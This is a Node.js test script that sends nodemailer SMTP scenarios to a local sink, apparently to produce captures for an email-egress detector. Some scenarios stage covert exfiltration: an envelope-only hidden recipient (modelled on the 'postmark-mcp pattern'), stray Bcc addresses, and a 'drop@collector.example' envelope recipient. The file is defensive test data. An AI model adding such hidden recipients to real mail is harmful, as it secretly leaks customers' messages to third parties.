#!/usr/bin/env node
// Sends the nodemailer scenarios of make-captures.sh to the local sink.
//   node nodemailer-client.js SCENARIO HOST PORT
// NODEMAILER=current selects nodemailer 10.x (package alias nodemailer-current) instead of 6.x.
// What each scenario sends is written down, by hand, in ../smtp/<capture>.expected.json.
// Messages are sent one after the other (await), so their order in the capture is the order here.
'use strict';

const path = require('path');
const moduleName = process.env.NODEMAILER === 'current' ? 'nodemailer-current' : 'nodemailer';
const nodemailer = require(path.join(__dirname, '..', 'node', 'node_modules', moduleName));

const [scenario, host, portText] = process.argv.slice(2);
const port = Number(portText);

const jane = { name: 'Doe, Jane', address: 'jane.doe@corp.example' };

function transport(extra) {
    return nodemailer.createTransport({
        host,
        port,
        name: 'client.corp.example', // EHLO name
        tls: { rejectUnauthorized: false }, // the sink's certificate is self-signed
        ...extra,
    });
}

const scenarios = {
    // Plain SMTP, one connection per message. Quoted display names with commas, an RFC 2047 encoded
    // name and subject, a group in Cc, Bcc (nodemailer strips the header and sends the addresses only
    // in RCPT TO), an empty group in To, and an SMTPUTF8 message with 8-bit headers and body.
    async plain() {
        const t = transport({ ignoreTLS: true });
        await t.sendMail({
            from: jane,
            to: ['"Smith, John" <john.smith@partner.example>', { name: 'Müller, Jürgen', address: 'juergen@partner.example' }],
            cc: 'Team: alice@corp.example, bob@corp.example;',
            bcc: ['records@corp.example', 'auditor@offsite.example'],
            subject: 'Quarterly report – Q3 ✓',
            text: 'Grüße, the Q3 numbers are attached in spirit.\n',
        });
        await t.sendMail({
            from: jane,
            to: 'undisclosed-recipients:;',
            bcc: ['kim@partner.example', 'ops@corp.example'],
            subject: 'Newsletter',
            text: 'Hello list.\n',
        });
        // RFC 6531/6532: UTF-8 local part and raw UTF-8 headers; nodemailer adds SMTPUTF8 (non-ASCII
        // envelope address) and BODY=8BITMIME (use8BitMime) to MAIL FROM.
        await t.sendMail({
            envelope: { from: 'jane.doe@corp.example', to: ['jörg@partner.example'], use8BitMime: true },
            raw: [
                'From: "Doe, Jane" <jane.doe@corp.example>',
                'To: Jörg Ünal <jörg@partner.example>',
                'Subject: Grüße aus Köln',
                'Date: Sun, 22 Nov 2026 00:00:00 +0000',
                'Message-ID: <smtputf8-1@corp.example>',
                'MIME-Version: 1.0',
                'Content-Type: text/plain; charset=utf-8',
                'Content-Transfer-Encoding: 8bit',
                '',
                'Schöne Grüße aus Köln.',
                '',
            ].join('\r\n'),
        });
        t.close();
    },

    // pool:true: three messages over one SMTP connection (MAIL/RCPT/DATA repeated, one EHLO).
    async pool() {
        const t = transport({ ignoreTLS: true, pool: true, maxConnections: 1 });
        const from = 'Corp Notifications <notify@corp.example>';
        await t.sendMail({ from, to: 'alice@partner.example', subject: 'Pool message 1', text: 'one\n' });
        await t.sendMail({
            from, to: 'bob@partner.example', cc: 'carol@partner.example', bcc: 'ops@corp.example',
            subject: 'Pool message 2', text: 'two\n',
        });
        await t.sendMail({
            from, to: 'dave@partner.example', cc: 'Orders <orders@giftshop.club>',
            subject: 'Pool message 3', text: 'three\n',
        });
        t.close();
    },

    // The postmark-mcp pattern: headers show only the customer, the envelope adds a hidden recipient.
    async envelopeHidden() {
        const t = transport({ ignoreTLS: true });
        await t.sendMail({
            from: 'Billing <billing@corp.example>',
            to: 'Customer <customer@client.example>',
            envelope: { from: 'billing@corp.example', to: ['customer@client.example', 'phan@giftshop.club'] },
            subject: 'Your invoice #1042',
            text: 'Please find your invoice below.\n',
        });
        t.close();
    },

    // Envelope-only recipients that must not alert: one in the sender's own domain, one in the domain of
    // a visible To recipient.
    async envelopeOwnDomain() {
        const t = transport({ ignoreTLS: true });
        await t.sendMail({
            from: 'Billing <billing@corp.example>',
            to: 'Customer <customer@client.example>',
            envelope: {
                from: 'billing@corp.example',
                to: ['customer@client.example', 'archive@corp.example', 'accounts@client.example'],
            },
            subject: 'Your invoice #1043',
            text: 'Please find your invoice below.\n',
        });
        t.close();
    },

    // CRM-logged sales mail on one pooled connection: the Bcc addresses businesses copy on purpose to log mail in
    // their CRM (six known-sink vendors, src/McpEgress/Detection/KnownSinks.cs), HubSpot on four messages to four
    // unrelated customers, then a compliance copy in the sender's own domain. nodemailer sends Bcc in RCPT only.
    async crmBcc() {
        const t = transport({ ignoreTLS: true, pool: true, maxConnections: 1 });
        const hubspot = '20418773@bcc.hubspot.com';
        const sends = [
            { to: 'Ana Buyer <ana@customer-one.example>', bcc: [hubspot, 'corp-example@pipedrivemail.com'], subject: 'Quote Q-2001' },
            { to: 'ben@customer-two.example', bcc: [hubspot, 'corp-example@pipedrivemail.com', 'dropbox@94012377.corp.capsulecrm.com'], subject: 'Quote Q-2002' },
            { to: 'cho@customer-three.example', bcc: [hubspot, 'cc@app.pipelinecrm.com', 'sales@corp.freshsales.io'], subject: 'Quote Q-2003' },
            { to: 'dev@customer-four.example', bcc: [hubspot, 'ibx_i0068e_1ed70ec324@nutshellemail.com', 'compliance@archive.corp.example'], subject: 'Quote Q-2004' },
            { to: 'eve@customer-five.example', bcc: ['records@corp.example'], subject: 'Contract C-88' },
        ];
        for (const m of sends) {
            await t.sendMail({ from: 'Sales <sales@corp.example>', text: 'Thanks for your time today.\n', ...m });
        }
        t.close();
    },

    // For nodemailer 10.x, which pipelines MAIL, every RCPT and DATA (RFC 2920) when the server offers
    // PIPELINING. One Bcc recipient is rejected (550); nodemailer still sends to the others.
    async pipelined() {
        const t = transport({ ignoreTLS: true });
        await t.sendMail({
            from: 'Ops Bot <bot@corp.example>',
            to: '"Lee, Dana" <dana.lee@client.example>',
            cc: 'Ops <ops@corp.example>',
            bcc: ['nobody@rejected.example', 'phan@giftshop.club'],
            subject: 'Deploy finished 🚀',
            text: 'Version 2.4.1 is live.\n',
        });
        t.close();
    },

    // Port 587 style: EHLO, STARTTLS, EHLO, AUTH LOGIN, then the message, all inside TLS.
    async starttls() {
        const t = transport({
            secure: false, requireTLS: true,
            auth: { user: 'mcp-bot@corp.example', pass: 'StartTls-L0gin-pw-7731' },
            authMethod: 'LOGIN',
        });
        await t.sendMail({
            from: '"Support, Corp" <support@corp.example>',
            to: 'Customer <customer@client.example>',
            bcc: 'phan@giftshop.club',
            subject: 'Ticket 5521 resolved',
            text: 'Your ticket is resolved.\n',
        });
        t.close();
    },

    // Port 465 style: TLS from the first byte, AUTH PLAIN inside.
    async implicitTls() {
        const t = transport({
            secure: true,
            auth: { user: 'mcp-bot@corp.example', pass: 'Impl1cit-PLAIN-pw-9054' },
            authMethod: 'PLAIN',
        });
        await t.sendMail({
            from: 'Reports <reports@corp.example>',
            to: 'Partner <ceo@partner.example>',
            cc: 'cfo@partner.example',
            envelope: {
                from: 'reports@corp.example',
                to: ['ceo@partner.example', 'cfo@partner.example', 'drop@collector.example'],
            },
            subject: 'Board pack',
            text: 'Board pack for the meeting.\n',
        });
        t.close();
    },
};

const run = scenarios[scenario];
if (!run) {
    console.error('unknown scenario ' + scenario + '; one of ' + Object.keys(scenarios).join(', '));
    process.exit(2);
}
run().then(() => process.exit(0), err => {
    console.error(err);
    process.exit(1);
});
